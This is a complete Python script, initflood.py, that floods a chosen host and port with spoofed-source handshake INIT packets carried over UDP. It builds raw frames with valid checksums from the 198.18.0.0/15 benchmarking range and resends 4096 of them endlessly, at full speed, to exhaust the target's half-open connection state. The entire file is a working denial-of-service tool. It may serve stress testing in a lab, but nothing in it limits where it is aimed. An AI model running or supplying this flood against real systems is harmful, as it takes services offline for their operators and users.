#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""initflood.py IFACE DST_MAC DST_IP PORT: INITs from addresses that nobody has, as fast as possible, until it is killed."""
import ipaddress
import random
import socket
import struct
import sys

# Each is sent again and again: more than the half-open paths that a host remembers.
FRAMES = 4096


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def init(src, dst, sport, dport, rng):
    """An IPv4 packet with an INIT, all its sums right."""
    header = struct.pack("!BBBBIQQ16x", 2, 1, 0, 0, 0, 0, 0)
    payload = header + struct.pack("!QQQIHHHHHB9x", rng.randrange(1, 1 << 64), 1, 0, 0, 1472, 16, 0, 61440, 64, 255)
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0)
    udp = struct.pack("!HHHH", sport, dport, length, checksum(pseudo + udp + payload) or 0xffff)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0x4000, 64, 17, 0, src, dst)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp + payload


def main():
    iface, dst_mac, dst_ip, port = sys.argv[1:]
    rng = random.Random(1)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    ether = bytes.fromhex(dst_mac.replace(":", "")) + sock.getsockname()[4] + b"\x08\0"
    dst = ipaddress.ip_address(dst_ip).packed
    # 198.18.0.0/15: no host has these (RFC 2544).
    frames = [
        ether + init(bytes([198, 18 + rng.randrange(2), rng.randrange(256), rng.randrange(256)]), dst,
                    rng.randrange(1, 65536), int(port), rng)
        for _ in range(FRAMES)
    ]
    while True:
        for frame in frames:
            try:
                sock.send(frame)
            except OSError:
                continue  # the queue is full


main()
